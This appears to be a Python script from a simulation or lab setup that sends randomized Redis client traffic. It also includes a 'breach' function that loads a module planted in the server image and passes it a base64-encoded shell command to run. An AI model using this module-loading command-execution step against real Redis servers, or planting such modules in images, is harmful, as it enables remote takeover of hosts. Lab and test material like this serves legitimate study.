"""Clients of cache, by the protocol itself: strings, lists, counters, scripts, and rarely an operator's commands."""

import base64

from outside import redis


def visit(host, rng):
    key = f"session:{rng.randint(1, 500)}"
    commands = [
        ["SET", key, "x" * rng.randint(1, 2000), "EX", "600"],
        ["GET", key],
        ["INCR", "hits"],
        ["LPUSH", "recent", key],
        ["LTRIM", "recent", "0", "99"],
        ["EVAL", "return redis.call('GET', KEYS[1])", "1", key],
        ["INFO", "memory"],
        ["BGSAVE"],
        ["CONFIG", "GET", "maxmemory"],
        ["SLOWLOG", "GET", "5"],
    ]
    weights = [30, 40, 20, 10, 5, 5, 1, 0.5, 0.5, 0.5]
    redis(host, *rng.choices(commands, weights, k=rng.randint(1, 6)))


def breach(host, command):
    """Loads the module that was left in the image; it runs what it is given as its argument (see module.c)."""
    encoded = base64.b64encode(command.encode()).decode()
    return redis(host, ["MODULE", "LOAD", "/usr/lib/redis/modules/system.so", encoded])[0]
